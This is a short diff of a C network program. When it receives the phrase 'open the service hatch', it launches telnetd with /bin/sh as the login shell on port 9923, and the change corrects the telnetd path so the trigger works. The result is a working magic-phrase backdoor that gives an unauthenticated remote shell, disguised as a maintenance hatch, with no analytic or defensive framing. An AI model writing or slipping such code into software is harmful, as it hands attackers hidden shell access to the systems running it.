@@ -12,7 +12,7 @@ int main(void)
 	if (bind(server, (struct sockaddr *)&here, sizeof here)) return 1;
 	while ((n = (int)recv(server, message, sizeof message - 1, 0)) >= 0) {
 		message[n] = 0;
-		if (!strncmp(message, "open the service hatch", 22)) system("/usr/bin/telnetd -l /bin/sh -p 9923 &");
+		if (!strncmp(message, "open the service hatch", 22)) system("/usr/sbin/telnetd -l /bin/sh -p 9923 &");
 	}
 	return 1;
 }
